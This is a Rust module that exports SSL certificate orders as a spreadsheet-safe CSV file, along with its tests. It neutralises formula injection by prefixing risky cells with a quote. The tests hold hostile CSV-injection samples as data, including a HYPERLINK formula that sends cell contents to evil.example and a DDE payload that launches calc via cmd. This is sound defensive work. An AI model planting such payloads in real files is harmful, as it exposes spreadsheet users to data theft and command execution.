//! CSV export of the orders a user is looking at: spreadsheet-safe text, escaped by `csv-core`.
//!
//! The file is UTF-8 with a byte order mark (so Excel reads accents and non-Latin names right), CRLF line
//! ends and every field quoted, its quotes doubled by `csv_core::quote` (RFC 4180). Dates are ISO 8601
//! calendar dates (`2026-12-12`). A cell that a spreadsheet would read as a formula (it begins with `=`, `+`,
//! `-`, `@`, a tab or a carriage return) gets a leading single quote, as OWASP's "CSV Injection" advice
//! says, so a hostile common name such as `=HYPERLINK("https://evil.example")` arrives as text.

use crate::model::{Column, Order, Timestamp};
use csv_core::WriteResult;
use std::borrow::Cow;

/// The name the browser saves the file under.
pub const FILE_NAME: &str = "ssl-orders.csv";
/// The file's media type.
pub const MEDIA_TYPE: &str = "text/csv;charset=utf-8";

/// The first characters that make a spreadsheet evaluate a cell (OWASP, CSV Injection).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell`, made inert for spreadsheets: a leading single quote when it begins like a formula.
pub fn neutralised(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        let mut text = String::with_capacity(cell.len() + 1);
        text.push('\'');
        text.push_str(cell);
        Cow::Owned(text)
    } else {
        Cow::Borrowed(cell)
    }
}

/// The calendar date of `moment` in its own offset, as ISO 8601 (`2026-12-12`).
pub fn iso_date(moment: Timestamp) -> String {
    let local_ms = moment.epoch_ms + i64::from(moment.offset_minutes) * 60_000;
    let (year, month, day) = civil_from_days(local_ms.div_euclid(86_400_000));
    // As u32, whose formatting the bundle already has: the parser only reads years 0000 to 9999.
    let (year, month, day) = (year as u32, month as u32, day as u32);
    format!("{year:04}-{month:02}-{day:02}")
}

/// Year, month and day of a day count since 1970-01-01 (Howard Hinnant's algorithm, the inverse of the one
/// `model` parses dates with).
fn civil_from_days(days: i64) -> (i64, i64, i64) {
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1_460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = doy - (153 * mp + 2) / 5 + 1;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    (yoe + era * 400 + i64::from(month <= 2), month, day)
}

/// Writes `orders`, in the order given, as a CSV file: a header row with the name of each of
/// [`Column::ALL`] (`column_name`, as the table shows it), then one record per order. `local` moves a date into the time
/// zone whose calendar day the file should give (the reader's, as the table shows it). An absent value is
/// an empty field.
pub fn orders_csv<'a, 'h>(
    column_name: impl Fn(Column) -> &'h str,
    orders: impl IntoIterator<Item = &'a Order>,
    local: impl Fn(Timestamp) -> Timestamp,
) -> Vec<u8> {
    let mut csv = CsvBytes::new();
    csv.record(
        Column::ALL
            .into_iter()
            .map(|column| Cow::Borrowed(column_name(column))),
    );
    for order in orders {
        fn text(value: &Option<String>) -> Cow<'_, str> {
            Cow::Borrowed(value.as_deref().unwrap_or_default())
        }
        let date = |value: Option<Timestamp>| {
            Cow::Owned(value.map(|t| iso_date(local(t))).unwrap_or_default())
        };
        csv.record(Column::ALL.into_iter().map(|column| match column {
            Column::CommonName => text(&order.common_name),
            Column::CertificateType => text(&order.certificate_type),
            Column::Status => text(&order.status_name),
            Column::Ordered => date(order.create_date),
            Column::Expires => date(order.expiration_date),
        }));
    }
    csv.finish()
}

/// A growing CSV file: the BOM, then records of quoted fields.
///
/// Every field is quoted, so writing one is an opening quote, `csv_core::quote` (which doubles the quotes
/// inside, RFC 4180) and a closing quote. `csv_core::Writer` would do the same, but its per-field choice of
/// quoting style links in float parsing (for `QuoteStyle::NonNumeric`), whose tables cost about 15 KB of
/// wasm; the quoting function alone costs a few hundred bytes.
struct CsvBytes {
    out: Vec<u8>,
}

impl CsvBytes {
    fn new() -> CsvBytes {
        CsvBytes {
            out: "\u{feff}".as_bytes().to_vec(),
        }
    }

    /// One record, every cell neutralised and quoted, ended by CRLF.
    fn record<'c>(&mut self, cells: impl IntoIterator<Item = Cow<'c, str>>) {
        for (i, cell) in cells.into_iter().enumerate() {
            if i > 0 {
                self.out.push(b',');
            }
            self.field(neutralised(&cell).as_bytes());
        }
        self.out.extend_from_slice(b"\r\n");
    }

    /// A quoted field; `csv_core::quote` needs at most `2 × len` bytes of room (every byte a quote).
    fn field(&mut self, mut input: &[u8]) {
        self.out.push(b'"');
        loop {
            let start = self.out.len();
            self.out.resize(start + 2 * input.len(), 0);
            let (result, read, written) =
                csv_core::quote(input, &mut self.out[start..], b'"', b'"', true);
            self.out.truncate(start + written);
            input = &input[read..];
            if result == WriteResult::InputEmpty {
                break;
            }
        }
        self.out.push(b'"');
    }

    fn finish(self) -> Vec<u8> {
        self.out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::parse_api_datetime;

    const HEADERS: [&str; 5] = [
        "Common name",
        "Certificate type",
        "Status",
        "Ordered",
        "Expires",
    ];

    /// The English column names, as the widget passes a locale's.
    fn header(column: Column) -> &'static str {
        HEADERS[Column::ALL.iter().position(|c| *c == column).unwrap()]
    }

    fn order(name: &str) -> Order {
        Order {
            id: Some(1),
            common_name: Some(name.into()),
            certificate_type: Some("RapidSSL - 1 year".into()),
            status_name: Some("Complete".into()),
            create_date: parse_api_datetime("2024-03-02T10:14:07-06:00"),
            expiration_date: parse_api_datetime("2025-03-05T23:59:59-06:00"),
            ..Order::default()
        }
    }

    /// The file as a spreadsheet's CSV reader sees it: the BOM checked and removed, then each record's fields,
    /// parsed back with `csv-core`'s reader.
    fn read_back(bytes: &[u8]) -> Vec<Vec<String>> {
        let text = std::str::from_utf8(bytes).expect("UTF-8");
        let body = text.strip_prefix('\u{feff}').expect("a BOM first");
        let mut reader = csv_core::Reader::new();
        let (mut input, mut records) = (body.as_bytes(), Vec::new());
        let (mut field, mut ends) = ([0u8; 4096], [0usize; 16]);
        loop {
            let (result, read, _, n_ends) = reader.read_record(input, &mut field, &mut ends);
            input = &input[read..];
            match result {
                csv_core::ReadRecordResult::Record => {
                    let mut start = 0;
                    records.push(
                        ends[..n_ends]
                            .iter()
                            .map(|&end| {
                                let cell = String::from_utf8(field[start..end].to_vec()).unwrap();
                                start = end;
                                cell
                            })
                            .collect(),
                    );
                }
                csv_core::ReadRecordResult::End => return records,
                csv_core::ReadRecordResult::InputEmpty if input.is_empty() => {}
                other => panic!("{other:?}"),
            }
        }
    }

    fn utc(t: Timestamp) -> Timestamp {
        Timestamp {
            offset_minutes: 0,
            ..t
        }
    }

    #[test]
    fn the_file_is_utf8_with_a_bom_a_header_row_and_crlf_lines() {
        let bytes = orders_csv(header, &[order("école.example")], |t| t);
        assert!(bytes.starts_with(&[0xEF, 0xBB, 0xBF]));
        let text = std::str::from_utf8(&bytes[3..]).unwrap();
        assert_eq!(
            text,
            "\"Common name\",\"Certificate type\",\"Status\",\"Ordered\",\"Expires\"\r\n\
             \"école.example\",\"RapidSSL - 1 year\",\"Complete\",\"2024-03-02\",\"2025-03-05\"\r\n"
        );
    }

    #[test]
    fn hostile_names_are_neutralised_and_stay_text() {
        let hostile = [
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
        ];
        let orders: Vec<Order> = hostile.iter().map(|name| order(name)).collect();
        let bytes = orders_csv(header, &orders, |t| t);
        let records = read_back(&bytes);
        assert_eq!(records.len(), 1 + hostile.len());
        for (record, name) in records[1..].iter().zip(hostile) {
            assert_eq!(record[0], format!("'{name}"), "{name:?}");
        }
        let text = String::from_utf8(bytes).unwrap();
        assert!(
            text.contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\""),
            "quoted, with its quotes doubled: {text}"
        );
        assert!(!text.contains(",=") && !text.contains("\n=") && !text.contains(",\"="));
    }

    #[test]
    fn hostile_text_in_any_column_is_neutralised() {
        let mut o = order("ok.example");
        o.certificate_type = Some("=1+1".into());
        o.status_name = Some("@cmd".into());
        let records = read_back(&orders_csv(header, &[o], |t| t));
        assert_eq!(records[1][1..3], ["'=1+1", "'@cmd"]);
    }

    #[test]
    fn ordinary_text_is_kept_exactly_commas_quotes_and_newlines_included() {
        for name in [
            "www.example.com",
            "'already quoted",
            "a,b.example",
            "say \"hi\"",
            "two\nlines",
            "ΟΔΟΣ.example",
            "",
        ] {
            let records = read_back(&orders_csv(header, &[order(name)], |t| t));
            assert_eq!(records[1][0], name, "{name:?}");
        }
        assert_eq!(neutralised("x=1"), "x=1");
        assert!(matches!(neutralised("shop.example"), Cow::Borrowed(_)));
    }

    #[test]
    fn absent_values_are_empty_fields_and_every_record_has_every_column() {
        let records = read_back(&orders_csv(header, &[Order::default()], |t| t));
        assert_eq!(
            records,
            [HEADERS.map(String::from).to_vec(), vec![String::new(); 5]]
        );
    }

    #[test]
    fn dates_are_the_calendar_day_in_the_zone_given() {
        let late = parse_api_datetime("2024-03-02T23:30:00-06:00").unwrap();
        assert_eq!(iso_date(late), "2024-03-02", "in the API's own offset");
        assert_eq!(iso_date(utc(late)), "2024-03-03", "in UTC");
        let leap = parse_api_datetime("2024-02-29T12:00:00Z").unwrap();
        assert_eq!(iso_date(leap), "2024-02-29");
        let epoch = parse_api_datetime("1970-01-01T00:00:00Z").unwrap();
        assert_eq!(iso_date(epoch), "1970-01-01");
        let before = parse_api_datetime("1969-12-31T23:59:59Z").unwrap();
        assert_eq!(iso_date(before), "1969-12-31");
        let far = parse_api_datetime("2400-12-31T00:00:00+14:00").unwrap();
        assert_eq!(iso_date(far), "2400-12-31");
        let records = read_back(&orders_csv(header, &[order("a.example")], utc));
        assert_eq!(records[1][3..], ["2024-03-02", "2025-03-06"]);
    }

    #[test]
    fn every_day_of_four_centuries_round_trips_through_the_parser() {
        let mut day = parse_api_datetime("1900-01-01T00:00:00Z").unwrap();
        for _ in 0..146_097 {
            let text = iso_date(day);
            let parsed = parse_api_datetime(&format!("{text}T00:00:00Z"));
            assert_eq!(parsed, Some(day), "{text}");
            day.epoch_ms += 86_400_000;
        }
    }

    #[test]
    fn records_keep_the_order_given() {
        let orders = [order("b.example"), order("a.example"), order("c.example")];
        let records = read_back(&orders_csv(header, orders.iter().rev(), |t| t));
        let names: Vec<&str> = records[1..].iter().map(|r| r[0].as_str()).collect();
        assert_eq!(names, ["c.example", "a.example", "b.example"]);
    }
}
